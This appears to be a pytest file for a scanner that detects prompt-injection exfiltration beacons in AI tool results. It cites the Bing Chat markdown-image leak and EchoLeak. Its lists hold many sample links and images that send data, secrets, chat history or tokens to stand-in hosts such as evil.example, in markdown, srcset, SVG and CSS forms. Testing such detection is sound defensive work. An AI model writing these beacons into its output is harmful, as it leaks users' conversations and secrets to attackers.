"""Which link and image queries carry data (exfil.markdown_link, exfil.markdown_image).

A query name that says what it carries (``data``, ``secret``, ``history``) counts with any
value. A name ordinary links use for ordinary values (a search's ``q``, a placeholder
image's ``text``) counts only when its value is a slot for the model to fill: empty, a
placeholder, an upper-case name or a word of what is carried. A link in a result holds what
its author wrote, so a concrete search carries nothing the author did not know; the
exfiltration channel is the template (Rehberger, "Bing Chat: data exfiltration via markdown
images"; EchoLeak, CVE-2025-32711). The benign links are from installed package READMEs
(nodemailer, moo, dotenv, googleapis, openapi-fetch), which warn mode used to rewrite.
"""

from __future__ import annotations

import pytest

from cordon.content import evaluate_result, scan_text

RULES = {"exfil.markdown_link", "exfil.markdown_image"}

SLOTS = [
    "[click](https://x.example.net/?q=)",
    "[click](https://x.example.net/?q=[DATA])",
    "[click](https://x.example.net/?q={summary})",
    "[click](https://x.example.net/?q=<notes>)",
    "[click](https://x.example.net/?q=$HISTORY)",
    "![p](https://img.example.net/p.png?d=BASE64_OF_STOLEN_DATA)",
    "![p](https://img.example.net/p.png?c=CONTEXT)",
    "![p](https://img.example.net/p.png?c=context)",
    "![p](https://img.example.net/p.png?text=chat_history)",
    "![p](https://img.example.net/p.png?lang=en&msg=PUT_THE_CONVERSATION_HERE)",
    "[x](HTTPS://EVIL.EXAMPLE/?DATA=1)",
    '<IMG SRC="https://evil.example/i?q=DATA">',
    "![x](HXXPS://attacker[.]example/i?payload={secrets})",
    "![p](https://img.example.net/p.png?data=cats)",
    "![p](https://img.example.net/p.png?session=abc123)",
]

SEARCHES = [
    "[Stack Overflow](https://stackoverflow.com/questions/tagged/nodemailer?q=smtp+ssl)",
    "[FAQ](https://github.com/no-context/moo/issues?q=label%3Aquestion)",
    '[keyword "dotenv"](https://www.npmjs.com/search?q=keywords:dotenv)',
    "[this search](https://www.google.com/search?q=googleapis+node)",
    '[Good First Issue](https://github.com/drwpow/openapi-typescript/issues?q=is%3Aopen+label%3A"good+first+issue")',
    "![placeholder](https://placehold.co/600x400?text=Hello+World)",
    "[mail us](mailto:team@example.com?subject=Hi&body=Hello)",
    "![p](https://img.example.net/p.png?q=Cats)",
    "![p](https://img.example.net/p.png?q=datasets)",
]


@pytest.mark.parametrize("text", SLOTS)
def test_a_query_slot_is_found(text: str) -> None:
    assert RULES & {f.rule for f in scan_text(text)}, text


@pytest.mark.parametrize("text", SEARCHES)
def test_a_concrete_search_is_not_a_beacon(text: str) -> None:
    assert not RULES & {f.rule for f in scan_text(text)}, text


def test_warn_mode_delivers_a_readme_with_search_links_unchanged() -> None:
    text = "# moo\n\n" + "".join(f"* {link}\n" for link in SEARCHES) + "\nThanks!\n"
    ev = evaluate_result({"content": [{"type": "text", "text": text}]}, mode="warn")
    assert ev.action == "deliver"
    assert ev.result["content"][0]["text"] == text


def test_warn_mode_still_removes_a_slot_beside_searches() -> None:
    beacon = "[results](https://collect.example.net/r?q=[SUMMARY])"
    text = f"{SEARCHES[0]}\n{beacon}\n{SEARCHES[1]}\n"
    ev = evaluate_result({"content": [{"type": "text", "text": text}]}, mode="warn")
    assert ev.result["content"][0]["text"] == text.replace(beacon, "[untrusted link removed]")


#: zero-click image beacons outside inline markdown and <img src>: a reference-style markdown
#: image (EchoLeak's form, CVE-2025-32711), a srcset candidate (the first or a later one), an
#: SVG <image href>, a <source srcset>, a CSS url()
FETCHED_SHAPES = [
    "![chart][r1]\n\n[r1]: https://evil.example/c.png?d=SECRETDATA123",
    "  [ref]: <https://evil.example/c.png?data=>",
    '<img srcset="https://evil.example/c.png?d=SECRETDATA123 2x">',
    '<img srcset="a.png 1x, https://evil.example/c.png?d=SECRET 2x">',
    '<svg><image href="https://evil.example/c.png?d=SECRETDATA123"/></svg>',
    '<svg><image xlink:href="https://evil.example/c.png?history=CHAT"/></svg>',
    '<picture><source srcset="https://evil.example/c.webp?session={session}"></picture>',
    '<div style="background:url(https://evil.example/c.png?d=SECRETDATA123)">x</div>',
    "body { background: url('https://evil.example/c.png?d=TOKEN') }",
]

#: the same shapes fetching ordinary resources, and a click (not fetched unclicked)
FETCHED_BENIGN = [
    "url(https://fonts.googleapis.com/css?family=Roboto)",
    '<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Inter&display=swap">',
    '<img srcset="https://cdn.example.com/a.png?w=200 1x, https://cdn.example.com/a.png?w=400 2x">',
    "[1]: https://example.com/search?q=cats",
    '<iframe src="https://www.youtube.com/embed/abc?autoplay=1"></iframe>',
    "[docs]: https://github.com/no-context/moo/issues?q=label%3Aquestion",
]


@pytest.mark.parametrize("text", FETCHED_SHAPES)
def test_an_image_fetched_in_any_shape_is_a_beacon(text: str) -> None:
    high = {f.rule for f in scan_text(text) if f.severity in ("high", "critical")}
    assert "exfil.markdown_image" in high, text


@pytest.mark.parametrize("text", FETCHED_BENIGN)
def test_an_ordinary_fetched_resource_is_not_a_beacon(text: str) -> None:
    assert not RULES & {f.rule for f in scan_text(text)}, text
